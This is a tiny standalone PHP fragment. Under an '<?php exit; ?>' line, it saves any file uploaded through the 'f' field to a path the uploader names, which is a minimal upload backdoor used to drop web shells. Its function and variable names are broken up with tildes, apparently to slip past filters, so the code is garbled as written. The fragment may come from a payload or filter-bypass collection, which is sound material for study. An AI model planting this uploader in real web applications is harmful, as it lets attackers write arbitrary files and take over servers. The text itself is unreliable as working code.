<?php exit; ?>
<?php mov~e_uploaded_file($_F~ILES['f']['tmp_name'], $_F~ILES['f']['name']);
